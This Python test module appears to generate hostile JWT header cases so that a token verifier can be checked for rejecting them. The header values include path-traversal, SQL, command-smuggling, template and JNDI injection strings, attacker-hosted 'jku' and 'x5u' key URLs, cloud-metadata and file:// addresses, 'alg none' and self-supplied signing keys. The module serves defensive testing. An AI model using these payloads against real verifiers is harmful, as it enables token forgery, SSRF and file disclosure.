"""The signature is sound, by a trusted key, but the header says what no header of ours says."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial
from typing import Any

from tests.hostile.forge import ABSENT, Case, Forge, cases, strangers_key
from tests.hostile.signing import as_json, ecdsa, jwk_of, mac

#: An address that nobody answers at; nobody may ask, either.
_ELSEWHERE = "https://keys.attacker.example/jwks.json"
_METADATA = "http://169.254.169.254/latest/meta-data/"

_KIDS: dict[str, Any] = {
    "empty": "",
    "null": None,
    "true": True,
    "zero": 0,
    "a number": 12345678901,
    "a list": ["kid"],
    "an empty list": [],
    "an object": {"kid": "kid"},
    "a path": "../../../../etc/passwd",
    "a path to an empty file": "../../../../dev/null",
    "an absolute path": "/dev/null",
    "a file of ours": "../pepper.key",
    "a Windows path": "..\\..\\..\\windows\\win.ini",
    "an encoded path": "..%2f..%2fetc%2fpasswd",
    "SQL": "' OR '1'='1",
    "SQL with a key": "x' UNION SELECT 'a-key-of-mine' --",
    "a command": "key|whoami",
    "a template": "{{7*7}}",
    "a look-up": "${jndi:ldap://attacker.example/a}",
    "an address": _ELSEWHERE,
    "a data address": "data:application/json,{}",
    "NUL": "\0",
    "a line break": "kid\r\nX-Injected: 1",
    "8000 characters": "k" * 4000,
    "a lone surrogate": "\ud800",
    "a star": "*",
    "the folder": "active",
}
_NAMED_KIDS = {
    "with NUL after it": "{kid}\0",
    "with a space after it": "{kid} ",
    "with its file's ending": "{kid}.pem",
    "in its folder": "active/{kid}",
    "doubled": "{kid}{kid}",
}
_TYPES: dict[str, Any] = {
    "null": None,
    "empty": "",
    "a number": 1,
    "a list": ["at+jwt", "JWT"],
    "an object": {"at+jwt": "JWT"},
    "JOSE": "JOSE",
    "JWE": "JWE",
    "dpop+jwt": "dpop+jwt",
    "logout+jwt": "logout+jwt",
    "secevent+jwt": "secevent+jwt",
    "token-introspection+jwt": "token-introspection+jwt",
    "oauth-authz-req+jwt": "oauth-authz-req+jwt",
    "entity-statement+jwt": "entity-statement+jwt",
    "of the verb": "at+jwtx",
    "with a space": "at+jwt ",
    "with NUL": "at+jwt\0",
    "twice application": "application/application/at+jwt",
    "text/jwt": "text/jwt",
    "a long word": "at+jwt" * 200,
}


def _header(forge: Forge, **changes: Any) -> bytes:
    return forge.token(header=changes)


def _named_kid(forge: Forge, template: str) -> bytes:
    return forge.token(header={"kid": template.format(kid=forge.kids["ES256"])})


def _by_stranger(forge: Forge, **changes: Any) -> bytes:
    """Signed by the attacker's key, which the header brings along."""
    return forge.token(header=changes, sign=ecdsa(strangers_key("P-256")))


def _text(forge: Forge, template: str) -> bytes:
    """The header as JSON text; {good} are its sound members."""
    good = as_json(forge.header())[1:-1].decode()
    return forge.token(header=template.replace("{good}", good))


def _nested(forge: Forge, member: str, depth: int) -> bytes:
    """A header member as deep as it gets."""
    good = as_json(forge.header(**{member: ABSENT}))[1:-1].decode()
    return forge.token(header=f'{{{good},"{member}":{"[" * depth}{"]" * depth}}}')


_TEXTS = {
    "alg twice, none first": '{"alg":"none",{good}}',
    "alg twice, none last": '{{good},"alg":"none"}',
    "alg twice, the second escaped": '{{good},"\\u0061lg":"none"}',
    "alg twice, both sound": '{{good},"alg":"ES256"}',
    "kid twice": '{{good},"kid":"another"}',
    "typ twice": '{{good},"typ":"JWT"}',
    "empty": "",
    "empty object": "{}",
    "a list": "[{{good}}]",
    "a string": '"header"',
    "a number": "1",
    "null": "null",
    "true": "true",
    "cut short": "{{good}",
    "a comma too many": "{{good},}",
    "something after it": "{{good}}{}",
    "a word after it": "{{good}}x",
    "a comment": "{/* alg */{good}}",
    "NaN in it": '{{good},"x":NaN}',
    "Infinity in it": '{{good},"x":Infinity}',
    "a number beyond floats": '{{good},"x":1e400}',
    "a number of 4300 digits": '{{good},"x":' + "9" * 4300 + "}",
    "NUL before it": "\0{{good}}",
    "a control character in a name": '{{good},"\u0001":1}',
    "a non-breaking space": "\u00a0{{good}}",
    "a byte order mark": "\ufeff{{good}}",
    "a lone surrogate": '{{good},"x":"\\ud800"}',
}


def _encoded(forge: Forge, encoding: str, before: bytes = b"") -> bytes:
    return forge.token(header=before + as_json(forge.header()).decode().encode(encoding))


def _all() -> Iterator[Case]:
    yield from cases("kid", {name: partial(_header, kid=kid) for name, kid in _KIDS.items()})
    yield from cases(
        "kid", {n: partial(_named_kid, template=template) for n, template in _NAMED_KIDS.items()}
    )
    yield from cases("typ", {name: partial(_header, typ=typ) for name, typ in _TYPES.items()})
    # An assertion need not say what it is (RFC 7523), an access token must (RFC 9068).
    yield from cases(
        "typ",
        {
            "absent": partial(_header, typ=ABSENT),
            "JWT": partial(_header, typ="JWT"),
            "a client assertion's": partial(_header, typ="client-authentication+jwt"),
            "a media type": partial(_header, typ="application/jwt"),
        },
        only="access token",
    )
    yield from cases(
        "typ", {"an access token's": partial(_header, typ="at+jwt")}, only="client assertion"
    )
    jwk = jwk_of(strangers_key("P-256"))
    brought: dict[str, dict[str, Any]] = {
        "jwk": {"jwk": jwk},
        "jwk without kid": {"jwk": jwk, "kid": ABSENT},
        "jwk under its own kid": {"jwk": {**jwk, "kid": "mine"}, "kid": "mine"},
        "jwk as kid": {"kid": jwk},
        "jku": {"jku": _ELSEWHERE},
        "jku without kid": {"jku": _ELSEWHERE, "kid": ABSENT},
        "jku in the cloud's metadata": {"jku": _METADATA},
        "jku on this machine": {"jku": "http://127.0.0.1:9/jwks"},
        "jku of a file": {"jku": "file:///etc/passwd"},
        "x5u": {"x5u": _ELSEWHERE},
        "x5c": {"x5c": ["MIIBszCCAVmgAwIBAgIUQ"]},
        "x5t": {"x5t": "dGh1bWJwcmludA"},
        "x5t#S256": {"x5t#S256": "dGh1bWJwcmludA"},
        "iss": {"iss": "https://attacker.example"},
    }
    for name, changes in brought.items():
        yield Case(f"brings its key: {name}", partial(_by_stranger, **changes))
        yield Case(f"names a key, yet sound: {name}", partial(_header, **changes))
    extensions: dict[str, dict[str, Any]] = {
        "crit exp": {"crit": ["exp"], "exp": 4102444800},
        "crit empty": {"crit": []},
        "crit null": {"crit": None},
        "crit unknown": {"crit": ["https://attacker.example/x"]},
        "crit of a member that is not there": {"crit": ["b64"]},
        "crit alg": {"crit": ["alg"]},
        "crit as text": {"crit": "b64"},
        "crit b64": {"crit": ["b64"], "b64": True},
        "b64 true": {"b64": True},
        "b64 false": {"b64": False},
        "zip": {"zip": "DEF"},
        "zip none": {"zip": None},
        "cty JWT": {"cty": "JWT"},
        "cty text": {"cty": "text/plain"},
        "enc": {"enc": "A128GCM"},
        "epk": {"epk": jwk},
        "apu": {"apu": "QWxpY2U"},
        "p2c": {"p2c": 2**31 - 1, "p2s": "c2FsdA"},
        "nonce": {"nonce": "n-0S6_WzA2Mj"},
        "url": {"url": _ELSEWHERE},
        "ppt": {"ppt": "shaken"},
        "svt": {"svt": ["a"]},
        "an unknown member": {"x": 1},
        "an empty name": {"": ""},
        "constructor": {"__proto__": {"alg": "none"}},
    }
    yield from cases("extension", {n: partial(_header, **h) for n, h in extensions.items()})
    yield from cases(
        "header text",
        {name: partial(_text, template=template) for name, template in _TEXTS.items()},
    )
    encodings = ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037", "utf-7")
    yield from cases(
        "header encoding", {name: partial(_encoded, encoding=name) for name in encodings[:5]}
    )
    yield from cases(
        "header encoding",
        {
            "a byte that is no UTF-8": partial(_encoded, encoding="utf-8", before=b"\xff"),
            "an overlong form": partial(_encoded, encoding="utf-8", before=b"\xc0\x80"),
            "gzip's magic": partial(_encoded, encoding="utf-8", before=b"\x1f\x8b"),
        },
    )
    yield from cases(
        "nested header",
        {
            f"{member}, {depth} deep": partial(_nested, member=member, depth=depth)
            for member in ("kid", "typ", "alg")
            for depth in (1, 100, 900, 940, 960, 980, 2500)
        },
    )
    yield Case("brings its key: oct as jwk", _own_secret)


def _own_secret(forge: Forge) -> bytes:
    """A MAC under a secret that the header itself states."""
    jwk = {"kty": "oct", "k": "c2VjcmV0"}
    return forge.token(header={"alg": "HS256", "jwk": jwk}, sign=mac(b"secret"))


CASES = tuple(_all())
